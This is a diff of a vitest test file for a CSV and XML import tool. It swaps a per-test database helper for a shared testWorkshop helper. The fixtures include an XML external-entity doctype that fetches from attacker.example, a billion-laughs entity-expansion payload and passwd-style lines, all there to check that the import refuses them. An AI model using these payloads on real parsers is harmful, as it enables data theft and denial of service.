@@ -1,21 +1,11 @@
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { spawnSync } from 'node:child_process';
 import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { readInventory } from '../store/inventory-repo.js';
-import { closeWorkshop, type Db } from '../store/workshop-db.js';
+import { type Db } from '../store/workshop-db.js';
 import { runImport } from './run-import.js';
-import { samples, tempDir, tempWorkshop, writeFixture } from './test-support/workshop.js';
-
-const open: Db[] = [];
-afterEach(() => {
-  for (const db of open.splice(0)) closeWorkshop(db);
-});
-async function workshop() {
-  const w = await tempWorkshop();
-  open.push(w.db);
-  return w;
-}
+import { samples, tempDir, testWorkshop, writeFixture } from './test-support/workshop.js';
 
 /** The import's refusal, as the user reads it: "file, line, column: message". */
 async function refusal(db: Db, paths: string[], baseDir: string) {
@@ -36,7 +26,7 @@ describe('files the import refuses, with where and why', () => {
     ['UTF-16 cut short (an odd number of bytes)', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(FORESTS, 'utf16le'), Buffer.from('x')]), {}, /UTF-16 LE text but ends in the middle of a character \(it has an odd number of bytes, \d+\): it was cut short/],
     ['the same column twice', Buffer.from('forest,Forest,tenant\r\na.com,b.com,t\r\n'), { line: 1 }, /the column "forest" appears twice \(columns 1 and 2\), so SyncPlan cannot tell which to read/],
   ])('%s', async (_name, bytes, where, message) => {
-    const { db, dir } = await workshop();
+    const { db, dir } = await testWorkshop();
     writeFixture(dir, 'forests.csv', bytes);
     const error = await refusal(db, ['forests.csv'], dir);
     expect(error).toMatchObject({ location: { file: 'forests.csv', ...where }, message: expect.stringMatching(message) });
@@ -44,7 +34,7 @@ describe('files the import refuses, with where and why', () => {
   });
 
   it('warns about a repeated column it does not read, and imports the rest', async () => {
-    const { db, dir } = await workshop();
+    const { db, dir } = await testWorkshop();
     writeFixture(dir, 'forests.csv', 'forest,tenant,network,comment,comment\r\ncontoso.com,contoso.onmicrosoft.com,connected,a,b\r\n');
     const summary = await runImport(db, ['forests.csv'], { baseDir: dir });
     expect(summary.files[0]?.warnings.map((w) => w.message)).toContain('the column "comment" appears twice (columns 4 and 5); SyncPlan does not read it');
@@ -52,7 +42,7 @@ describe('files the import refuses, with where and why', () => {
   });
 
   it('does not quote the first line of a file that is not a CSV at all', async () => {
-    const { db, dir } = await workshop();
+    const { db, dir } = await testWorkshop();
     writeFixture(dir, 'notes.csv', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n');
     const error = (await refusal(db, ['notes.csv'], dir)) as Error;
     expect(error.message).toMatch(/^the first line is not a row of column names \(it has no "," ";" or tab\): this does not look like a CSV file\./);
@@ -60,7 +50,7 @@ describe('files the import refuses, with where and why', () => {
   });
 
   it('refuses named pipes and devices without opening them, in a folder too', async () => {
-    const { db, dir } = await workshop();
+    const { db, dir } = await testWorkshop();
     expect(spawnSync('mkfifo', [join(dir, 'pipe.csv')]).status).toBe(0);
     expect(await refusal(db, ['pipe.csv'], dir)).toMatchObject({ code: 'not-a-file', location: { file: 'pipe.csv' } });
     expect(await refusal(db, ['/dev/zero'], dir)).toMatchObject({ code: 'not-a-file', message: 'is a device, not a file' });
@@ -75,7 +65,7 @@ describe('files the import refuses, with where and why', () => {
   });
 
   it('follows links in a folder to the CSVs they point at, and names a broken one', async () => {
-    const { db, dir } = await workshop();
+    const { db, dir } = await testWorkshop();
     const elsewhere = join(dir, 'elsewhere');
     const folder = join(dir, 'exports');
     mkdirSync(elsewhere);
@@ -95,7 +85,7 @@ describe('files the import refuses, with where and why', () => {
     ['a parameter entity', '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'],
     ['entities that expand a billion-fold', `<!DOCTYPE x [<!ENTITY a "${'x'.repeat(10)}"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>`],
   ])('refuses a Connect export declaring %s, naming the file and nothing else', async (_name, doctype) => {
-    const { db } = await workshop();
+    const { db } = await testWorkshop();
     const folder = join(tempDir(), 'export');
     cpSync(samples('aadconnect-contoso'), folder, { recursive: true });
     const mv = join(folder, 'GlobalSettings', 'MV.xml');
